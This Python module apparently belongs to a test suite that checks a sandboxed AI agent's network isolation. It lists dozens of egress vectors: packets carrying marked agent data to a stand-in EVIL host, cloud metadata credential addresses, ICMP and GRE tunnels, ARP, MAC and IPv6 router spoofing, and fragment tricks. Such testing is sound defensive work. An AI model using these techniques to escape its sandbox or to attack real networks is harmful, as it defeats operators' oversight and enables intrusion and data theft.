"""Ways out below the guest's kernel: any frame that a card takes."""
import os
import struct

import packets
import places
from guest import MARK, vector
from packets import (BROADCAST, ESP, ETH_ARP, ETH_IP, ETH_IP6, GRE, ICMP, ICMP6, IGMP, IPIP, OSPF, SCTP, SIX_IN_FOUR, TCP,
                     UDP)

EVIL = places.EVIL_ADDRESS
DATA = f"{MARK} data of the agent ".encode() * 3


# --- addresses that nobody named

def literal(name: str, what: str, address: str, port: int) -> None:
    @vector(name, f"TCP to {what}", {"kind": "packet", "address": address, "port": port})
    def attempt(guest):
        return guest.syn(address, port)


literal("ip4-443", "a bare IPv4 address, port 443", EVIL, 443)
literal("ip4-80", "a bare IPv4 address, port 80", EVIL, 80)
literal("ip4-8080", "a bare IPv4 address, port 8080", EVIL, 8080)
literal("ip4-ssh", "a bare IPv4 address, port 22", EVIL, 22)
literal("origin-by-address", "an allowed host's own address instead of its name", places.ORIGIN, 443)
literal("literal-other-port", "an address that the manifest names, on another port", places.LITERAL, 5433)
literal("literal-neighbour", "the address beside one that the manifest names", "11.22.33.98", places.LITERAL_PORT)
literal("lan-host", "a host of the LAN", places.LAN_HOST, 80)
literal("lan-router", "the LAN's router", places.GATEWAY, 80)
literal("metadata", "the metadata address", places.METADATA, 80)
literal("metadata-container", "the address of containers' credentials", "169.254.170.2", 80)
literal("metadata-alibaba", "another cloud's metadata address", "100.100.100.200", 80)
literal("metadata-azure", "another cloud's metadata address, in public space", "168.63.129.16", 80)
literal("dot", "a public resolver, DNS over TLS", places.PUBLIC_DNS, 853)
literal("doh-address", "a public resolver, DNS over HTTPS", places.PUBLIC_DNS, 443)
literal("dns-tcp-elsewhere", "another DNS server", places.PUBLIC_DNS, 53)
literal("dns-tcp-upstream", "the DNS server that the box itself asks", places.DNS, 53)
literal("box-gate", "the operators' port at the box's own address", places.BOX, places.GATE_PORT)
literal("peer-ssh", "another agent", "198.18.4.2", 8080)


@vector("host-gate", "TCP to the operators' port at the agent's gateway", {"kind": "packet", "port": places.GATE_PORT})
def host_gate(guest):
    return guest.syn(guest.gateway, places.GATE_PORT, limit_s=0.4)


@vector("host-proxy", "TCP to the proxy's own port", {"kind": "packet", "port": places.PROXY_PORT})
def host_proxy(guest):
    return guest.syn(guest.gateway, places.PROXY_PORT, limit_s=0.4)


@vector("host-ports", "TCP to other ports of the host, 1 to 9999 in steps", {"kind": "packet"})
def host_ports(guest):
    for port in (1, 21, 22, 23, 25, 67, 80, 111, 123, 443, 853, 2375, 6443, 8080, 9100):
        if found := guest.syn(guest.gateway, port, limit_s=0.05):
            return found
    return ""


@vector("host-loopback", "TCP to 127.0.0.1 on the wire")
def host_loopback(guest):
    return guest.syn("127.0.0.1", places.PROXY_PORT, limit_s=0.3) or guest.syn("127.0.0.1", 22, source="127.0.0.1")


@vector("host-udp", "UDP to the host's own ports", {"kind": "packet", "port": 123})
def host_udp(guest):
    for port in (67, 69, 123, 161, 514, 5353):
        guest.udp(guest.gateway, port, DATA)


# --- UDP

def datagram(name: str, what: str, address: str, port: int, recorded: bool = True) -> None:
    @vector(name, f"UDP: {what}", {"kind": "packet", "address": address, "port": port} if recorded else None)
    def attempt(guest):
        guest.udp(address, port, DATA)


datagram("dns-udp-elsewhere", "a question to another DNS server", places.PUBLIC_DNS, 53)
datagram("dns-udp-upstream", "a question to the DNS server that the box asks", places.DNS, 53)
datagram("dns-udp-peer", "a question to another agent's resolver", "198.18.4.1", 53)
datagram("quic", "QUIC to a bare address", EVIL, 443)
datagram("ntp", "time servers as a way out", EVIL, 123)
datagram("syslog", "a log server", EVIL, 514)
datagram("wireguard", "a tunnel", EVIL, 51820)
datagram("udp-lan", "to a host of the LAN", places.LAN_HOST, 161)
datagram("udp-metadata", "to the metadata address", places.METADATA, 53)
datagram("udp-peer", "to another agent", "198.18.4.2", 8080)
datagram("mdns", "multicast DNS", "224.0.0.251", 5353)
datagram("ssdp", "UPnP discovery", "239.255.255.250", 1900)


@vector("quic-name", "UDP: QUIC to a name that may be reached by TCP", {"kind": "packet", "port": 443})
def quic_name(guest):
    guest.udp(guest.lookup(places.API), 443, b"\xc0\0\0\0\1" + DATA)


@vector("udp-broadcast", "UDP: broadcast on the link and to everybody")
def udp_broadcast(guest):
    for address in ("255.255.255.255", "198.18.0.3", "9.8.7.255"):
        guest.ip4(address, UDP, packets.udp(guest.address, address, 68, 67, DATA))
        guest.frame(ETH_IP, packets.ip4(guest.address, address, UDP, packets.udp(guest.address, address, 68, 67, DATA)),
                    destination=BROADCAST)


# --- other protocols

@vector("ping-tunnel", "ICMP echo with data to the outside", {"kind": "packet", "address": EVIL})
def ping_tunnel(guest):
    for _ in range(3):
        guest.ip4(EVIL, ICMP, packets.icmp(8, 0, b"\0\1\0\1" + DATA))


@vector("ping-host", "ICMP echo with data to the host", {"kind": "packet"})
def ping_host(guest):
    guest.ip4(guest.gateway, ICMP, packets.icmp(8, 0, b"\0\2\0\1" + DATA))


@vector("icmp-redirect", "ICMP redirect and other messages that change a host's mind", {"kind": "packet"})
def icmp_redirect(guest):
    inner = packets.ip4(guest.gateway, EVIL, UDP, b"\0" * 8)
    guest.ip4(guest.gateway, ICMP, packets.icmp(5, 1, packets.address(guest.address) + inner))
    guest.ip4(guest.gateway, ICMP, packets.icmp(9, 0, struct.pack("!BBH", 1, 2, 1800) + packets.address(guest.address) * 2))
    guest.ip4(places.BOX, ICMP, packets.icmp(13, 0, b"\0" * 16))


def protocol(name: str, what: str, number: int, payload: bytes) -> None:
    @vector(name, f"another protocol: {what}", {"kind": "packet", "address": EVIL})
    def attempt(guest):
        guest.ip4(EVIL, number, payload)


_inner = packets.ip4("198.18.0.2", EVIL, UDP, packets.udp("198.18.0.2", EVIL, 5, 443, DATA))
protocol("ip-in-ip", "IP in IP", IPIP, _inner)
protocol("gre", "GRE", GRE, b"\0\0\x08\0" + _inner)
protocol("six-in-four", "IPv6 in IPv4", SIX_IN_FOUR, packets.ip6("fe80::2", places.EVIL6, UDP, DATA))
protocol("esp", "IPsec", ESP, os.urandom(8) + DATA)
protocol("sctp", "SCTP", SCTP, struct.pack("!HHII", 5, 443, 0, 0) + DATA)
protocol("ospf", "OSPF", OSPF, b"\2\1" + DATA)
protocol("protocol-255", "255", 255, DATA)


@vector("igmp", "another protocol: IGMP that carries data")
def igmp(guest):
    guest.ip4("224.0.0.22", IGMP, packets.icmp(0x22, 0, DATA))
    guest.ip4(EVIL, IGMP, packets.icmp(0x16, 0, DATA))


@vector("tunnel-to-host", "IP in IP, GRE and IPv6 in IPv4 to the host, which might unpack them", {"kind": "packet"})
def tunnel_to_host(guest):
    for number, payload in ((IPIP, _inner), (GRE, b"\0\0\x08\0" + _inner), (SIX_IN_FOUR, b"\x60" + b"\0" * 39 + DATA)):
        guest.ip4(guest.gateway, number, payload)


# --- frames that are no IP, or not for us

@vector("ethertype", "raw Ethernet of an unknown kind")
def ethertype(guest):
    for kind in (0x88B5, 0x0100, 0x8863, 0x8864, 0x88CC, 0x8847, 0x9000, 0x88F7):
        guest.frame(kind, DATA)
        guest.frame(kind, DATA, destination=BROADCAST)


@vector("bpdu", "bridge and link protocols' own addresses")
def bpdu(guest):
    for destination in ("01:80:c2:00:00:00", "01:80:c2:00:00:0e", "01:00:0c:cc:cc:cc"):
        guest.frame(len(DATA), b"\x42\x42\x03" + DATA, destination=destination)


@vector("vlan", "VLAN tags, one and two")
def vlan(guest):
    packet = packets.ip4(guest.address, EVIL, UDP, packets.udp(guest.address, EVIL, 9, 443, DATA))
    dns = packets.ip4(guest.address, guest.gateway, UDP, packets.udp(guest.address, guest.gateway, 9, 54, DATA))
    for tags in ((1,), (0,), (100,), (1, 100), (4095,)):
        guest.frame(ETH_IP, packet, vlans=tags)
        guest.frame(ETH_IP, dns, vlans=tags)


@vector("runt", "frames too short and with lengths that lie")
def runt(guest):
    for payload in (b"", b"\x45", b"\x4f" + b"\xff" * 19, b"\x45\0\xff\xff" + b"\0" * 16, b"\x45\0\0\x04" + DATA, b"\x40" + DATA,
                    b"\x65" + DATA):
        guest.frame(ETH_IP, payload)
        guest.frame(ETH_IP6, payload)


@vector("peer-mac", "frames to another agent's card")
def peer_mac(guest):
    for destination in (guest.peer_mac, BROADCAST, "33:33:00:00:00:01"):
        guest.frame(ETH_IP, packets.ip4(guest.address, guest.peer, UDP, packets.udp(guest.address, guest.peer, 9, 8080, DATA)),
                    destination=destination)


@vector("mac-spoof", "another agent's MAC and IP address as the sender's", {"kind": "packet", "port": 53})
def mac_spoof(guest):
    data = packets.udp(guest.peer, guest.gateway, 9, 53, b"\0\1\1\0\0\1" + b"\0" * 6 + b"\x09forbidden\0\0\1\0\1")
    guest.frame(ETH_IP, packets.ip4(guest.peer, guest.gateway, UDP, data), source=guest.peer_mac)


# --- pretending to be somebody else

def spoofed(name: str, what: str, source: str, recorded: bool) -> None:
    @vector(f"spoof-{name}", f"packets from {what}", {"kind": "packet"} if recorded else None)
    def attempt(guest):
        sender = source or guest.gateway
        guest.udp(EVIL, 443, DATA, source=sender)
        guest.udp(guest.gateway, 54, DATA, source=sender)
        guest.syn(EVIL, 444, source=sender)
        guest.syn(guest.lookup(places.API), 80, source=sender)


spoofed("peer", "another agent's address", "198.18.4.2", True)
spoofed("box", "the box's address on the LAN", places.BOX, False)
spoofed("lan", "a LAN host's address", places.LAN_HOST, True)
spoofed("public", "a public address", places.PUBLIC_DNS, True)
spoofed("loopback", "127.0.0.1", "127.0.0.1", False)
spoofed("zero", "0.0.0.0", "0.0.0.0", False)
spoofed("broadcast", "the broadcast address", "255.255.255.255", False)
spoofed("gateway", "the gateway's own address", "", False)


@vector("answer-spoof", "packets that look like answers to connections of the box", {"kind": "packet"})
def answer_spoof(guest):
    for flags in (0x12, 0x10, 0x18, 0x04, 0x01):
        guest.ip4(EVIL, TCP, packets.tcp(guest.address, EVIL, 443, 40000, flags=flags, data=DATA))
        guest.ip4(places.BOX, TCP, packets.tcp(places.ORIGIN, places.BOX, 443, 40000, flags=flags, data=DATA), places.ORIGIN)


@vector("arp-spoof", "ARP: claiming the gateway's, the peer's, the LAN's addresses", harmless=True)
def arp_spoof(guest):
    for address in (guest.gateway, guest.peer, "198.18.4.1", places.BOX, places.GATEWAY, places.ORIGIN):
        for operation in (1, 2):
            guest.frame(ETH_ARP, packets.arp(operation, guest.mac, address, BROADCAST, address), destination=BROADCAST)
            guest.frame(ETH_ARP, packets.arp(operation, guest.mac, address, guest.gateway_mac, guest.gateway))


@vector("arp-probe", "ARP: asking for addresses of the LAN and of other agents")
def arp_probe(guest):
    guest.wire.drain()
    for address in (places.BOX, places.GATEWAY, guest.peer, "198.18.4.1", "127.0.0.1", places.ORIGIN):
        guest.frame(ETH_ARP, packets.arp(1, guest.mac, guest.address, "00:00:00:00:00:00", address), destination=BROADCAST)
        frame = guest.wire.receive(0.05)
        if frame and frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[6:12] != packets.mac(guest.mac):
            return f"ARP for {address} is answered"
    return ""


# --- pieces

@vector("fragments", "a datagram in fragments")
def fragments(guest):
    segment = packets.udp(guest.address, EVIL, 9, 443, DATA * 40)
    for at in range(0, len(segment), 512):
        guest.ip4(EVIL, UDP, segment[at:at + 512], fragment=at, more=at + 512 < len(segment), identification=99)


@vector("tiny-fragments", "a TCP header that is cut in two")
def tiny_fragments(guest):
    segment = packets.tcp(guest.address, EVIL, 9, 443)
    guest.ip4(EVIL, TCP, segment[:8], more=True, identification=98)
    guest.ip4(EVIL, TCP, segment[8:], fragment=8, identification=98)


@vector("overlapping-fragments", "fragments of which the second writes over the first's port")
def overlapping_fragments(guest):
    allowed = packets.udp(guest.address, guest.gateway, 9, 53, DATA)
    other = packets.udp(guest.address, guest.gateway, 9, 8443, DATA)
    guest.ip4(guest.gateway, UDP, allowed[:24], more=True, identification=97)
    guest.ip4(guest.gateway, UDP, other[:24], more=True, identification=97)
    guest.ip4(guest.gateway, UDP, other[8:], fragment=8, identification=97)


@vector("fragment-to-peer", "fragments to another agent and to the LAN")
def fragment_to_peer(guest):
    for to in (guest.peer, places.LAN_HOST):
        guest.ip4(to, UDP, DATA[:24], fragment=64, more=True, identification=96)
        guest.ip4(to, UDP, DATA[:24], fragment=88, identification=96)


@vector("source-route", "IP options: loose and strict source routes, record route, router alert")
def source_route(guest):
    hops = packets.address(EVIL) + packets.address(places.LAN_HOST)
    for option in (b"\x83" + bytes([3 + len(hops), 4]) + hops, b"\x89" + bytes([3 + len(hops), 4]) + hops,
                   b"\x07\x0b\x04" + b"\0" * 8, b"\x94\x04\0\0"):
        for to in (guest.gateway, EVIL, places.BOX):
            guest.ip4(to, UDP, packets.udp(guest.address, to, 9, 443, DATA), options=option)


@vector("ttl", "packets with a TTL of 0, 1 and 255 to the outside", {"kind": "packet", "port": 33434})
def ttl(guest):
    for value in (0, 1, 2, 255):
        guest.udp(EVIL, 33434, DATA, ttl=value)


# --- IPv6

def sixes(name: str, what: str, following: int, payload, to: str) -> None:
    @vector(f"ip6-{name}", f"IPv6: {what}")
    def attempt(guest):
        body = payload(guest) if callable(payload) else payload
        for destination in ("33:33:00:00:00:01", guest.gateway_mac, BROADCAST):
            guest.frame(ETH_IP6, packets.ip6("fe80::2", to, following, body), destination=destination)


_UDP6 = packets.udp("fe80::2", places.EVIL6, 9, 443, DATA)
sixes("udp", "UDP to an address outside", UDP, _UDP6, places.EVIL6)
sixes("tcp", "TCP to an address outside", TCP, packets.tcp("fe80::2", places.EVIL6, 9, 443, data=DATA), places.EVIL6)
sixes("metadata", "TCP to the metadata service", TCP, packets.tcp("fe80::2", places.METADATA6, 9, 80, data=DATA), places.METADATA6)
sixes("all-nodes", "UDP to all nodes of the link", UDP, packets.udp("fe80::2", "ff02::1", 9, 5353, DATA), "ff02::1")
sixes("ping", "echo with data", ICMP6, packets.icmp6("fe80::2", places.EVIL6, 128, 0, b"\0\1\0\1" + DATA), places.EVIL6)
sixes("hop-by-hop", "a hop-by-hop header before UDP", 0, bytes([UDP, 0, 1, 4, 0, 0, 0, 0]) + _UDP6, places.EVIL6)
sixes("routing", "a routing header, type 0", 43, bytes([UDP, 2, 0, 1, 0, 0, 0, 0]) + packets.address(places.EVIL6) + _UDP6, "ff02::1")
sixes("fragment", "a fragment header", 44, bytes([UDP, 0, 0, 1, 0, 0, 0, 1]) + _UDP6, places.EVIL6)
sixes("destination-options", "destination options with data in them", 60, bytes([59, len(DATA) // 8, 0x1E, 60]) + DATA, places.EVIL6)
sixes("router-advertisement", "being a router", ICMP6,
      packets.icmp6("fe80::2", "ff02::1", 134, 0, b"\x40\0\x07\x08" + b"\0" * 8 + b"\3\4\x40\xc0" + b"\xff" * 8 + b"\0" * 4 +
                    packets.address("2001:db8:bad::")), "ff02::1")
sixes("neighbour-spoof", "being everybody's neighbour", ICMP6,
      packets.icmp6("fe80::2", "ff02::1", 136, 0, b"\x20\0\0\0" + packets.address("fe80::1") + b"\2\1" + b"\2\x4e\x42\1\0\0"), "ff02::1")
